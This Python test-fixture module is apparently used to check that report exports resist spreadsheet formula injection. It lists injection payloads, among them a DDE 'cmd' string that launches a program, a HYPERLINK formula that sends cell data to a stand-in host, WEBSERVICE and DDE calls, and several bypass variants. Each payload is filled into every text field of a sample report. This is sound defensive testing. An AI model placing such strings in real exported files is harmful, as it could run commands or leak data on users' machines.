"""What somebody may write who wants a spreadsheet to run it, put into every place of a report that takes words."""

from __future__ import annotations

from copy import deepcopy
from dataclasses import replace
from typing import Any

from app.followup.composing.blocks import ChartBlock, FigureRow, Figures, Heading, Paragraph, Report, TableBlock
from tests.followup.formats.sample import BLOCKS, FRONT
from tests.followup.formats.sample_document import DOCUMENT

FORMULAS = (
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "\u00a0=1+1",
    "\x00=1+1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1+1)",
    "=cmd|'/c calc'!A1+1+1",
    '=HYPERLINK("http://x.example/?"&A1,"1+1")',
    "=WEBSERVICE(1+1)",
    '";=1+1',
    "=DDE(1+1)",
)


def report_saying(words: str) -> Report:
    """The sample report with these words wherever words may stand."""
    front = replace(FRONT, title=words, parties=(words,), state=words, diary_number=words, municipality=words)
    return Report("sv", front, tuple(_saying(block, words) for block in BLOCKS))


def document_saying(words: str) -> dict[str, Any]:
    """The sample document with these words as titles, codes, labels and definitions."""
    document = deepcopy(DOCUMENT)
    for told in document["figures"].values():
        told |= {"label": words, "definition": words}
    for table in document["tables"]:
        table["title"] = words
        table["labels"] = {dimension: {"*": words} for dimension in table["dimensions"]}
        table["cells"][0]["key"] = dict.fromkeys(table["dimensions"], words)
    return document


def _saying(block: Any, words: str) -> Any:
    if isinstance(block, Heading | Paragraph):
        return replace(block, text=words)
    if isinstance(block, Figures):
        return Figures(tuple(FigureRow(row.figure_id, *(words,) * 5) for row in block.rows))
    if isinstance(block, TableBlock):
        columns = tuple(replace(column, label=words) for column in block.columns)
        rows = tuple((words,) * len(columns) for _ in block.rows)
        return replace(block, caption=words, columns=columns, rows=rows, note=words)
    if isinstance(block, ChartBlock):
        series = tuple(replace(each, label=words) for each in block.series)
        return replace(block, caption=words, alternative=words, series=series, labels=(words,) * len(block.labels))
    raise TypeError(block)
